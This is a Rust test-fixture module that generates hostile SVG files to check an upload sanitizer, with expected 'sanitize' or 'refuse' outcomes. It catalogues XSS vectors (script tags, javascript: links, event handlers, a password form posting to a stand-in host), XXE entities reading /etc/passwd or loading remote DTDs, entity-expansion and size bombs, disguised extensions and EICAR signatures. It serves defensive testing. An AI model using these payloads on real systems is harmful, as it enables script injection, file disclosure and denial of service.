//! Drawings that are more than drawings.

use super::{Dice, File, Must, eicar};

/// What stands inside a drawing.
const INSIDE: [&str; 46] = [
    "<script>RUN</script>",
    "<script type=\"text/ecmascript\"><![CDATA[RUN]]></script>",
    "<script href=\"https://jahat.example/a.js\"/>",
    "<script xlink:href=\"data:text/javascript,RUN\"/>",
    "<s:script xmlns:s=\"http://www.w3.org/2000/svg\">RUN</s:script>",
    "<h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">RUN</h:script>",
    "<script xmlns=\"http://www.w3.org/1999/xhtml\">RUN</script>",
    "<foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"javascript:RUN\"/></foreignObject>",
    "<foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\" onload=\"RUN\"><img src=\"x\" onerror=\"RUN\"/></body></foreignObject>",
    "<foreignObject><h:form xmlns:h=\"http://www.w3.org/1999/xhtml\" action=\"https://jahat.example\"><h:input name=\"sandi\"/></h:form></foreignObject>",
    "<a xlink:href=\"javascript:RUN\"><text>x</text></a>",
    "<a href=\"java&#115;cript:RUN\"><text>x</text></a>",
    "<a href=\"java&#9;script:RUN\"><text>x</text></a>",
    "<a href=\"&#1;javascript:RUN\"><text>x</text></a>",
    "<a href=\"vbscript:RUN\"><text>x</text></a>",
    "<a href=\"data:text/html,&lt;script&gt;RUN&lt;/script&gt;\"><text>x</text></a>",
    "<a href=\"https://jahat.example/masuk\" target=\"_top\"><text>Masuk</text></a>",
    "<a><animate attributeName=\"href\" values=\"javascript:RUN\"/><text>x</text></a>",
    "<a><animate attributeName=\"xlink:href\" to=\"&#106;avascript:RUN\"/><text>x</text></a>",
    "<a><set attributeName=\"href\" to=\"javascript:RUN\"/><text>x</text></a>",
    "<set attributeName=\"onmouseover\" to=\"RUN\"/>",
    "<animate onbegin=\"RUN\" attributeName=\"x\" dur=\"1s\"/>",
    "<animate onend=\"RUN\" attributeName=\"x\" dur=\"1s\"/>",
    "<animateTransform onrepeat=\"RUN\" attributeName=\"transform\"/>",
    "<image href=\"https://jahat.example/a.png\" onerror=\"RUN\"/>",
    "<image xlink:href=\"//jahat.example/a.png\"/>",
    "<image href=\"/api/v1/session/end\"/>",
    "<image href=\"data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/&gt;\"/>",
    "<image href=\"data:text/html;base64,PHNjcmlwdD5SVU48L3NjcmlwdD4=\"/>",
    "<use href=\"https://jahat.example/a.svg#x\"/>",
    "<use xlink:href=\"data:image/svg+xml;base64,PHN2ZyBpZD0neCcgb25sb2FkPSdSVU4nLz4=#x\"/>",
    "<feImage href=\"https://jahat.example/a.svg\"/>",
    "<style>@import url(https://jahat.example/a.css);</style>",
    "<style>@\\69mport 'https://jahat.example/a.css'; rect{background:url(https://jahat.example/b)}</style>",
    "<style>@font-face{font-family:x;src:url(//jahat.example/f.woff)} *{fill:url('https://jahat.example/a.svg#x')}</style>",
    "<style>rect{x:expression(RUN);behavior:url(#x);-moz-binding:url(https://jahat.example/x.xml#a)}</style>",
    "<style>&lt;/style>&lt;script>RUN&lt;/script></style>",
    "<rect style=\"fill:url(https://jahat.example/a.svg#b);background:URL( 'javascript:RUN' )\"/>",
    "<rect fill=\"url(https://jahat.example/a.svg#b)\" filter=\"url(data:image/svg+xml,x#y)\"/>",
    "<rect onclick=\"RUN\" onmouseover=\"RUN\" onfocus=\"RUN\" tabindex=\"0\"/>",
    "<handler xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=\"load\">RUN</handler>",
    "<title><h:img xmlns:h=\"http://www.w3.org/1999/xhtml\" src=\"x\" onerror=\"RUN\"/></title>",
    "<desc>&lt;/desc>&lt;script>RUN&lt;/script></desc>",
    "<switch><iframe src=\"https://jahat.example\"/><embed src=\"x\"/><object data=\"x\"/></switch>",
    "<metadata><rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\"><script>RUN</script></rdf:RDF></metadata>",
    "<video xmlns=\"http://www.w3.org/1999/xhtml\" onerror=\"RUN\"><source src=\"x\"/></video>",
];

/// What stands before a drawing.
const BEFORE: [&str; 12] = [
    "",
    "<?xml version=\"1.0\"?>",
    "<?xml version=\"1.0\" encoding=\"utf-8\"?>",
    "\u{feff}",
    "<!-- gambar -->",
    "<?xml-stylesheet href=\"https://jahat.example/a.css\"?>",
    "<?xml-stylesheet type=\"text/xsl\" href=\"#x\"?>",
    "<!DOCTYPE svg [<!ENTITY a \"RUN\">]>",
    "<!DOCTYPE svg [<!ENTITY % a SYSTEM \"https://jahat.example/a.dtd\"> %a;]>",
    "<!DOCTYPE svg [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>",
    "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"https://jahat.example/svg11.dtd\">",
    "<!DOCTYPE svg [<!ATTLIST svg onload CDATA \"RUN\">]>",
];

/// Attributes of the drawing itself.
const ON: [&str; 8] = [
    "",
    "onload=\"RUN\"",
    "ONLOAD=\"RUN\"",
    "onload='RUN' xml:base=\"javascript:RUN\"",
    "xmlns:e=\"http://www.w3.org/2001/xml-events\" e:onload=\"RUN\"",
    "onfocusin=\"RUN\" tabindex=\"1\" autofocus=\"\"",
    "onunload=\"RUN\" onresize=\"RUN\" onscroll=\"RUN\"",
    "style=\"background:url(https://jahat.example/b)\"",
];

/// Files of this kind.
pub(super) fn all(dice: &mut Dice) -> Vec<File> {
    let mut files = Vec::new();
    let anew = |what, text: String| File::new(what, "alur.svg", text, Must::Anew);
    let whole = |before: &str, on: &str, inside: &str| {
        format!("{before}<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" viewBox=\"0 0 9 9\" {on}><rect width=\"5\" height=\"5\"/>{inside}<circle r=\"2\"/></svg>").replace("RUN", "window.__ran()")
    };
    for inside in INSIDE {
        files.push(anew("drawing", whole("", "", inside)));
        for _ in 0..7 {
            let before = dice.one(&BEFORE);
            let more = dice.one(&INSIDE);
            let on = dice.one(&ON);
            files.push(anew("drawing", whole(before, on, &format!("<g>{inside}</g>{more}"))));
        }
    }
    for before in BEFORE {
        for on in ON {
            files.push(anew("drawing", whole(before, on, "<text>&a;</text>")));
        }
    }
    // Sizes that grow.
    let growing: String =
        (1..12).map(|at| format!("<!ENTITY a{at} \"{}\">", format!("&a{};", at - 1).repeat(10))).collect();
    files.push(File::new(
        "growing drawing",
        "x.svg",
        whole(&format!("<!DOCTYPE svg [<!ENTITY a0 \"aaaa\">{growing}]>"), "", "&a11;"),
        Must::Refused,
    ));
    for depth in [100, 10_000, 100_000] {
        files.push(anew(
            "deep drawing",
            whole("", "", &format!("{}{}", "<g>".repeat(depth), "</g>".repeat(depth))),
        ));
    }
    let many: String = (0..5000).map(|at| format!(" data-a{at}=\"x\"")).collect();
    files.push(anew("wide drawing", whole("", &many, "")));
    files.push(File::new("large drawing", "x.svg", whole("", "", &"<rect/>".repeat(400_000)), Must::Refused));
    files.push(anew("drawing that grows", whole("", "", &"<g>\n</g>".repeat(200_000))));
    // Something else under the name of a drawing, or a drawing under another name.
    for _ in 0..40 {
        let text = whole(dice.one(&BEFORE), dice.one(&ON), dice.one(&INSIDE));
        let name = dice.one(&[
            "x.png",
            "x.jpg",
            "x.jpeg",
            "x.webp",
            "x.pdf",
            "x.mp4",
            "x.docx",
            "x.vtt",
            "x.html",
            "x.svgz",
            "x.xml",
            "x",
            "x.svg.exe",
        ]);
        files.push(File::new("drawing in disguise", name, text, Must::Refused));
    }
    for text in [
        "<html><body><svg><script>window.__ran()</script></svg></body></html>",
        "<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>window.__ran()</script></html>",
        "<svg onload=window.__ran()>",
        "<svg xmlns=\"http://www.w3.org/1999/xhtml\" onload=\"window.__ran()\"/>",
        "<x:svg xmlns:x=\"http://www.w3.org/2000/svg\" onload=\"window.__ran()\"><x:script>window.__ran()</x:script></x:svg>",
    ] {
        files.push(anew("page as drawing", text.to_owned()));
    }
    for _ in 0..20 {
        let whole = whole("", dice.one(&ON), dice.one(&INSIDE));
        let cut = whole.len() - 7 - dice.below(whole.len() / 2);
        let cut = (0..=cut).rev().find(|at| whole.is_char_boundary(*at)).unwrap();
        files.push(File::new("cut off", "x.svg", &whole.as_bytes()[..cut], Must::Refused));
        let wide: Vec<u8> = whole.encode_utf16().flat_map(u16::to_le_bytes).collect();
        files.push(File::new(
            "wide letters",
            "x.svg",
            [b"\xff\xfe".as_slice(), &wide].concat(),
            Must::Refused,
        ));
    }
    for wrap in
        ["<text>E</text>", "<desc><![CDATA[E]]></desc>", "<!--E-->", "<style>E</style>", "<rect id=\"E\"/>"]
    {
        let text = whole("", "", wrap).replace('E', std::str::from_utf8(&eicar()).unwrap());
        files.push(File::new("signature", "x.svg", text, Must::Refused));
    }
    let hidden: String = eicar().iter().map(|byte| format!("&#{byte};")).collect();
    files.push(File::new("signature", "x.svg", whole("", "", &format!("<text>{hidden}</text>")), Must::Anew));
    files
}
